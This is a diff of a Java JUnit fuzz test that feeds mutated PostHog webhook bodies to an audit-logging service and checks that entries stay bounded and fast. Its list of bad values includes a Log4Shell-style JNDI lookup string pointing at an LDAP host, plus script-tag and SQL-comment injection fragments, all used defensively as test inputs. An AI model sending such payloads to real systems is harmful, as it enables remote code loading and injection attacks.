@@ -4,17 +4,19 @@ import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
 
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.springframework.boot.test.system.CapturedOutput;
 import org.springframework.boot.test.system.OutputCaptureExtension;
 import tools.jackson.databind.JsonNode;
-import tools.jackson.databind.json.JsonMapper;
 import tools.jackson.databind.node.ObjectNode;
 
 import io.hogaudit.audit.AuditEntry;
@@ -22,81 +24,155 @@ import io.hogaudit.signature.Verified;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-/** Bodies of each family with one member made wrong, in an order fixed by a seed. */
+/** Each fixture with members made wrong, in an order fixed by a seed. */
 @ExtendWith(OutputCaptureExtension.class)
 class BadInputTests {
 
 	private static final long SEED = 4;
 
-	private static final int MUTATIONS = 300;
+	private static final int MUTATIONS = 60;
+
+	private static final long QUICK = Duration.ofMillis(2).toNanos();
 
 	/** Generous: for slow machines, not for what is usual. */
-	private static final Duration BOUND = Duration.ofMillis(500);
+	private static final Duration BOUND = Duration.ofMillis(100);
 
-	private static final List<String> WRONG = List.of("null", "7", "-1e400", "true", "\"\"", "[]", "{}",
-			"[[{\"a\":[null]}]]", "\"None\"", "\"\\u0000\\ud800<script>'; --\"", "\"" + "x".repeat(20_000) + "\"",
-			"[".repeat(200) + "]".repeat(200));
+	private static final List<Long> NANOS = new ArrayList<>();
 
-	private final JsonMapper json = new JsonMapper();
+	private static final List<String> WRONG = List.of("null", "7", "-1e400", "1e999999999", "true", "\"\"", "[]", "{}",
+			"[[{\"a\":[null]}]]", "\"None\"", "\"\\u0000\\ud800<script>'; --\"",
+			"\"$" + "{jndi:ldap://192.0.2.66/x}\\r\\n\\u2028\\u202e\"", "\"" + "x".repeat(20_000) + "\"",
+			"\"" + "\\u00e4_".repeat(5_000) + "\"", "[".repeat(200) + "]".repeat(200),
+			"{\"a\":".repeat(200) + "1" + "}".repeat(200));
+
+	private static final String MARK = "here, and nowhere else";
 
 	private final Entries entries = new Entries(new Severities(Map.of()));
 
+	static List<EventFixture> fixtures() {
+		return EventFixture.all();
+	}
+
 	@ParameterizedTest
-	@ValueSource(strings = {
-			"{'event':{'uuid':'u','event':'$activity_log_entry_created','distinct_id':'d','properties':{'id':'i','kept':'here','user':{'id':42,'distinct_id':'d'},'was_impersonated':false,'activity':'updated','item_id':'x','scope':'Organization','detail':{'name':'n','changes':[{'field':'level','before':8,'after':15}],'context':{'scopes':['*']}},'created_at':'2026-08-28T10:15:30Z'},'timestamp':'2026-08-28T10:15:30'},'person':{'id':'42','properties':{}}}",
-			"{'event':{'uuid':'u','event':'$insight_alert_firing','distinct_id':'team_1','properties':{'alert_id':'a','kept':'here'},'timestamp':'2026-08-28T10:15:30'},'person':null}",
-			"{'event':{'uuid':'u','event':'$discussion_mention_created','properties':{'item_id':'a','kept':'here','commenter_user_id':4},'timestamp':'2026-08-28T10:15:30'},'person':{'id':'4','properties':{'distinct_id':'d'}}}",
-			"{'event':{'uuid':'u','event':'survey sent','distinct_id':'d','properties':{'$survey_id':'s','kept':'here'},'timestamp':'2026-08-28T10:15:30Z'},'person':{'id':'p'}}",
-			"{'id':'e','type':'logs_alert.firing','timestamp':'2026-08-28T10:15:30Z','data':{'alert_id':'a','kept':'here'}}",
-			"{'hook':{'id':'h','event':'e','target':'t'},'data':{'eventUuid':'u','event':'x','distinctId':'d','timestamp':'2026-08-28T10:15:30Z','properties':{'kept':'here'}}}",
-			"{'text':'t','blocks':[{'type':'section','kept':'here'}]}" })
-	void recordsWhateverAMemberBecomes(String template, CapturedOutput output) {
-		Random random = new Random(SEED);
+	@MethodSource("fixtures")
+	void recordsWhateverMembersBecome(EventFixture fixture, CapturedOutput output) {
+		Random random = new Random(SEED + fixture.name().hashCode());
 		for (int i = 0; i < MUTATIONS; i++) {
-			ObjectNode body = (ObjectNode) this.json.readTree(template.replace('\'', '"'));
-			List<ObjectNode> objects = new ArrayList<>();
-			collect(body, objects);
+			String text = mutated(fixture.json().deepCopy(), random);
+			String what = "seed %d, mutation %d: %s".formatted(SEED, i,
+					text.substring(0, Math.min(2000, text.length())));
+			AuditEntry entry = entry(text, what);
+			if (text.contains(MARK)) {
+				assertThat(entry.metadata().toString()).as(what).contains(MARK);
+			}
+		}
+		assertThat(output).doesNotContain("a handler failed", "severity was not judged");
+	}
+
+	@ParameterizedTest
+	@MethodSource("fixtures")
+	void recordsEachMemberMissing(EventFixture fixture, CapturedOutput output) {
+		int members = objects(fixture.json()).stream().mapToInt(JsonNode::size).sum();
+		for (int i = 0; i < members; i++) {
+			JsonNode body = fixture.json().deepCopy();
+			int at = i;
+			for (ObjectNode object : objects(body)) {
+				if (at < object.size()) {
+					object.remove(new ArrayList<>(object.propertyNames()).get(at));
+					break;
+				}
+				at -= object.size();
+			}
+			entry(body.toString(), "member " + i + " missing");
+		}
+		assertThat(output).doesNotContain("a handler failed", "severity was not judged");
+	}
+
+	@Test
+	void keepsWhatIsNoJsonAsItCame() {
+		EventFixture fixture = fixtures().getFirst();
+		String text = new String(fixture.body(), StandardCharsets.UTF_8);
+		for (String broken : List.of(text.substring(0, text.length() - 1), text + "}", "<html>", "\u0000")) {
+			assertThat(entry(broken, "broken").metadata().path("body").asString("")).isEqualTo(broken);
+		}
+	}
+
+	private AuditEntry entry(String text, String what) {
+		long took = Long.MAX_VALUE;
+		AuditEntry entry = null;
+		// a machine that does something else is slow once, a body that is slow always
+		for (int i = 0; entry == null || (took > QUICK && i < 5); i++) {
+			long start = System.nanoTime();
+			entry = this.entries.entry(this.entries.delivery(new Verified("posthog", "msg",
+					text.getBytes(StandardCharsets.UTF_8), "0a1b2c3d", "192.0.2.1", Instant.EPOCH), null));
+			took = Math.min(took, System.nanoTime() - start);
+		}
+		NANOS.add(took);
+		assertThat(entry.action()).as(what).isNotBlank().hasSizeLessThan(500);
+		assertThat(Duration.ofNanos(took)).as(what).isLessThan(BOUND);
+		return entry;
+	}
+
+	/** One to three members wrong or gone, and a marked one somewhere. */
+	private static String mutated(JsonNode body, Random random) {
+		mark(body, random);
+		String[] wrong = new String[1 + random.nextInt(3)];
+		for (int i = 0; i < wrong.length; i++) {
+			List<ObjectNode> objects = objects(body);
+			if (objects.isEmpty()) {
+				continue;
+			}
 			ObjectNode object = objects.get(random.nextInt(objects.size()));
 			List<String> names = new ArrayList<>(object.propertyNames());
 			if (names.isEmpty()) {
 				continue;
 			}
 			String name = names.get(random.nextInt(names.size()));
-			int wrong = random.nextInt(WRONG.size() + 1);
-			String text = mutated(body, object, name, wrong);
-			long start = System.nanoTime();
-			AuditEntry entry = this.entries.entry(this.entries
-				.delivery(new Verified("posthog", "msg", bytes(text), "0a1b2c3d", "192.0.2.1", Instant.EPOCH), null));
-			Duration took = Duration.ofNanos(System.nanoTime() - start);
-			String what = "seed %d, mutation %d of %s".formatted(SEED, i, name);
-			assertThat(entry.action()).as(what).isNotBlank().hasSizeLessThan(500);
-			assertThat(took).as(what).isLessThan(BOUND);
-			if (text.contains("\"kept\":\"here\"")) {
-				assertThat(entry.metadata().toString()).as(what).contains("kept", "here");
+			int choice = random.nextInt(WRONG.size() + 1);
+			if (choice == WRONG.size()) {
+				object.remove(name);
+			}
+			else {
+				object.put(name, "@@wrong" + i + "@@");
+				wrong[i] = WRONG.get(choice);
 			}
 		}
-		assertThat(output).doesNotContain("a handler failed", "severity was not judged");
-	}
-
-	private static String mutated(ObjectNode body, ObjectNode object, String name, int wrong) {
-		if (wrong == WRONG.size()) {
-			object.remove(name);
-			return body.toString();
+		String text = body.toString();
+		for (int i = 0; i < wrong.length; i++) {
+			text = (wrong[i] != null) ? text.replace("\"@@wrong" + i + "@@\"", wrong[i]) : text;
 		}
-		object.put(name, "@@wrong@@");
-		return body.toString().replace("\"@@wrong@@\"", WRONG.get(wrong));
+		return text;
 	}
 
-	private static byte[] bytes(String text) {
-		return text.getBytes(StandardCharsets.UTF_8);
+	/** Not in the second copy of an activity's user, of which one is kept. */
+	private static void mark(JsonNode body, Random random) {
+		List<ObjectNode> objects = new ArrayList<>(objects(body));
+		if (body.at("/event/properties/user").isObject()) {
+			objects.removeAll(objects(body.path("person")));
+		}
+		if (!objects.isEmpty()) {
+			objects.get(random.nextInt(objects.size())).put("mark " + random.nextInt(3), MARK);
+		}
 	}
 
-	private static void collect(JsonNode node, List<ObjectNode> objects) {
+	private static List<ObjectNode> objects(JsonNode node) {
+		List<ObjectNode> objects = new ArrayList<>();
 		if (node instanceof ObjectNode object) {
 			objects.add(object);
 		}
 		for (JsonNode child : node) {
-			collect(child, objects);
+			objects.addAll(objects(child));
+		}
+		return objects;
+	}
+
+	@AfterAll
+	static void sayHowLong() {
+		long[] sorted = NANOS.stream().mapToLong(Long::longValue).sorted().toArray();
+		if (sorted.length > 0) {
+			System.out.printf("bad input: %d bodies, median %d us, p99 %d us, longest %d us%n", sorted.length,
+					sorted[sorted.length / 2] / 1000, sorted[(int) (sorted.length * 0.99)] / 1000,
+					Arrays.stream(sorted).max().orElseThrow() / 1000);
 		}
 	}
 
